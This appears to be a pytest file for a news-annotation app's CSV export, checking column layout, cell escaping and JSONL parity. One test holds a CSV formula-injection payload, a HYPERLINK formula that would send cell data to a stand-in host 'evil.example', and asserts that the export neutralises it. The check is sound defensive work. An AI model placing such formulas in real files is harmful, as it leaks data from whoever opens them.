"""CSV exports with one column per field: the annotations' (kind, article, article title,
start, end, exact, speaker, cue, holder, target, polarity, note, status, origin, creator,
created, modified, then id, quote kind, entity, entity kind) and every list's (a related
row as `<field>` and `<field>_id`). Read back the way a spreadsheet or a script reads
them (csv.DictReader, RFC 4180): no text, however it is written, moves into another
column, and text a spreadsheet would run is still neutralised."""

import csv
import io
import json

import pytest

from annotations import w3c_sql
from annotations.models import Note
from newsdesk import sync
from tests.api.world import People, World, span, supporting_stance

pytestmark = pytest.mark.django_db

LISTED = [
    "kind",
    "article",
    "article title",
    "start",
    "end",
    "exact",
    "speaker",
    "cue",
    "holder",
    "target",
    "polarity",
    "note",
    "status",
    "origin",
    "creator",
    "created",
    "modified",
]
# Every character that could split a cell, a row or a "|"-joined list.
AWKWARD = 'First | second, "third"\nfourth; | fifth'


def exported(client, **params) -> tuple[list[str], list[dict[str, str]]]:
    response = client.get("/api/v1/annotations/", {"format": "csv", **params})
    assert response.status_code == 200, response.content
    assert response.streaming, "streamed, not built in memory"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="annotations.csv"'
    sync.Token.unsign(response[sync.HEADER])  # a pull like any other
    reader = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def by_key(rows: list[dict[str, str]]) -> dict[tuple[str, int], dict[str, str]]:
    return {(row["kind"], int(row["id"])): row for row in rows}


def test_the_header_is_the_listed_columns_in_order_then_the_row_s_key_and_kind_own(world, people):
    header, rows = exported(people.client("api_client"))
    assert header[: len(LISTED)] == LISTED
    assert header == [*LISTED, "id", "quote kind", "entity", "entity kind"]
    assert len(rows) == 5
    # No filter matches: the header alone, so a script still finds its columns.
    header, rows = exported(people.client("api_client"), created_by="nobody")
    assert (header, rows) == ([*LISTED, "id", "quote kind", "entity", "entity kind"], [])


def test_a_note_written_through_the_api_keeps_its_text_in_its_own_cell(world: World, people):
    analyst = people.client("analyst_a")
    made = analyst.post(
        "/api/v1/notes/",
        {"article": world.article.pk, "text": AWKWARD, **span(world.article, "Ushakov said")},
        format="json",
    )
    assert made.status_code == 201, made.content
    on_article = analyst.post(
        "/api/v1/notes/", {"article": world.article.pk, "text": AWKWARD}, format="json"
    )
    assert on_article.status_code == 201, on_article.content
    stance = analyst.post(
        "/api/v1/stances/",
        {
            "article": world.article.pk,
            **span(world.article, "welcomed the talks"),
            "holder": world.keller.pk,
            "target": world.ushakov.pk,
            "polarity": "support",
            "note": AWKWARD,
        },
        format="json",
    )
    assert stance.status_code == 201, stance.content

    header, rows = exported(people.client("api_client"))
    assert len(header) == len(set(header)) == 21
    for row in rows:
        assert None not in row, "a row with more cells than the header"
        assert all(value is not None for value in row.values()), "a row with fewer cells"
    rows_by_key = by_key(rows)
    note = rows_by_key[("note", made.json()["id"])]
    assert note["note"] == AWKWARD
    assert (note["start"], note["end"], note["exact"]) == (
        str(made.json()["start"]),
        str(made.json()["end"]),
        "Ushakov said",
    )
    whole = rows_by_key[("note", on_article.json()["id"])]
    assert whole["note"] == AWKWARD
    assert (whole["start"], whole["end"], whole["exact"]) == ("", "", "")
    stanced = rows_by_key[("stance", stance.json()["id"])]
    assert stanced["note"] == AWKWARD
    assert (stanced["holder"], stanced["target"], stanced["polarity"]) == (
        "Anna Keller",
        "Yury Ushakov",
        "support",
    )
    # What the text holds never reaches another column.
    for row in (note, whole, stanced):
        assert [c for c, value in row.items() if "fifth" in value] == ["note"]
    assert Note.objects.get(pk=made.json()["id"]).text == AWKWARD


# What each kind fills besides the columns every row has; every other column is empty.
COMMON = {"kind", "article", "article title", "status", "origin", "created", "modified", "id"}
OWN = {
    "mention": {"start", "end", "exact", "entity", "entity kind"},
    "quote": {"start", "end", "exact", "speaker", "cue", "quote kind"},
    "stance": {"start", "end", "exact", "holder", "target", "polarity", "note"},
    "note": {"start", "end", "exact", "note"},
}
# What a row fills only when it has it: a stance's note, a quote's cue, a note's span
# (a note on the whole article has none).
OPTIONAL = {
    "mention": set(),
    "quote": {"cue"},
    "stance": {"note"},
    "note": {"start", "end", "exact"},
}


def test_every_kind_fills_its_own_columns_and_leaves_the_others_empty(world: World, people):
    supporting_stance(world, people.users["analyst_b"], note="Warm, for now.")
    spanned = Note.objects.create(
        article=world.article,
        text="Ushakov's wording",
        created_by=people.users["analyst_b"],
        **dict(
            zip(
                ("start", "end", "exact", "prefix", "suffix"),
                _selector(world, "Ushakov said"),
                strict=True,
            )
        ),
    )
    _, rows = exported(people.client("api_client"))
    seen = set()
    for row in rows:
        kind = row["kind"]
        seen.add(kind)
        filled = {column for column, value in row.items() if value != ""}
        wanted = COMMON | OWN[kind]
        if row["origin"] == "analyst":
            wanted = wanted | {"creator"}
        assert filled <= wanted, (kind, row)
        assert wanted - OPTIONAL[kind] <= filled, (kind, row)
    assert seen == {"mention", "quote", "stance", "note"}
    assert len(rows) == 7
    rows_by_key = by_key(rows)
    mention = rows_by_key[("mention", world.machine_mention.pk)]
    assert (mention["entity"], mention["entity kind"], mention["exact"]) == (
        "Yury Ushakov",
        "PERSON",
        "Yury Ushakov",
    )
    assert mention["article title"] == world.article.title
    quote = rows_by_key[("quote", world.own_quote.pk)]
    assert (quote["speaker"], quote["cue"], quote["quote kind"], quote["creator"]) == (
        "Anna Keller",
        "said",
        "indirect",
        "analyst-a",
    )
    topic = rows_by_key[("stance", world.own_stance.pk)]
    assert (topic["holder"], topic["target"], topic["polarity"]) == (
        "Anna Keller",
        "new sanctions",
        "oppose",
    )
    assert rows_by_key[("note", spanned.pk)]["note"] == "Ushakov's wording"
    assert rows_by_key[("stance", world.own_stance.pk)]["note"] == ""
    whole = rows_by_key[("note", world.own_note.pk)]
    assert (whole["start"], whole["exact"], whole["note"]) == ("", "", world.own_note.text)


def _selector(world: World, text: str) -> tuple[int, int, str, str, str]:
    from articles.anchoring import text_quote_selector

    start = world.article.body.index(text)
    selector = text_quote_selector(world.article.body, start, start + len(text))
    return start, start + len(text), selector.exact, selector.prefix, selector.suffix


def test_text_a_spreadsheet_would_run_is_still_neutralised(world: World, people):
    formula = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    world.keller.name = "@SUM(1+1)"
    world.keller.save()
    analyst = people.client("analyst_a")
    note = analyst.post(
        "/api/v1/notes/", {"article": world.article.pk, "text": formula}, format="json"
    ).json()
    _, rows = exported(people.client("api_client"))
    rows_by_key = by_key(rows)
    assert rows_by_key[("note", note["id"])]["note"] == "'" + formula
    assert rows_by_key[("quote", world.own_quote.pk)]["speaker"] == "'@SUM(1+1)"
    assert rows_by_key[("stance", world.own_stance.pk)]["holder"] == "'@SUM(1+1)"
    # Numbers are not text: an offset or an id is written as it is.
    assert rows_by_key[("quote", world.own_quote.pk)]["start"].isdigit()


def test_the_csv_lists_what_the_jsonl_lists_in_the_same_order_over_several_chunks(
    world: World, people, monkeypatch
):
    supporting_stance(world, people.users["analyst_b"], note="Warm, for now.")
    monkeypatch.setattr(w3c_sql, "EXPORT_CHUNK", 2)
    client = people.client("api_client")
    _, rows = exported(client)
    jsonl = client.get("/api/v1/annotations/", {"format": "jsonl"})
    documents = [json.loads(line) for line in b"".join(jsonl.streaming_content).splitlines()]
    assert [(row["kind"], int(row["id"])) for row in rows] == [
        (d["newsdesk"]["type"], d["newsdesk"]["id"]) for d in documents
    ]
    for row, document in zip(rows, documents, strict=True):
        assert (row["created"], row["modified"], row["status"]) == (
            document["created"],
            document["modified"],
            document["newsdesk"]["status"],
        )
    # The filters apply as to every other format.
    _, stances = exported(client, type="stance")
    assert [row["kind"] for row in stances] == ["stance", "stance"]


@pytest.mark.parametrize(
    ("endpoint", "nested"),
    [
        ("articles", ["outlet"]),
        ("mentions", ["entity"]),
        ("quotes", ["speaker"]),
        ("statements", ["speaker"]),
        ("stances", ["holder", "target"]),
    ],
)
def test_every_list_s_csv_has_a_column_per_member_of_a_related_row(
    endpoint, nested, world: World, people: People
):
    supporting_stance(world, people.users["analyst_b"])
    client = people.client("api_client")
    paged = client.get(f"/api/v1/{endpoint}/", {"page_size": 1000}).json()["results"]
    response = client.get(f"/api/v1/{endpoint}/", {"format": "csv"})
    reader = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    rows = list(reader)
    header = list(reader.fieldnames or [])
    for field in nested:
        at = header.index(field)
        assert header[at + 1] == f"{field}_id", header
    assert len(rows) == len(paged) > 0
    for row, page_row in zip(rows, paged, strict=True):
        assert None not in row
        for field in nested:
            ref = page_row[field] or {"id": "", "name": ""}
            assert (row[field], row[f"{field}_id"]) == (ref["name"], str(ref["id"]))
        # No cell is a JSON object any more: a list (aliases, tags) is the one kind of
        # cell still JSON, an array.
        assert not any(value.startswith("{") for value in row.values()), row


def test_an_empty_list_export_still_has_its_header(people: People):
    response = people.client("api_client").get("/api/v1/quotes/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert text.splitlines()[0].startswith("id,article,start,end,exact,")
    assert "speaker,speaker_id" in text.splitlines()[0]
    assert len(text.splitlines()) == 1
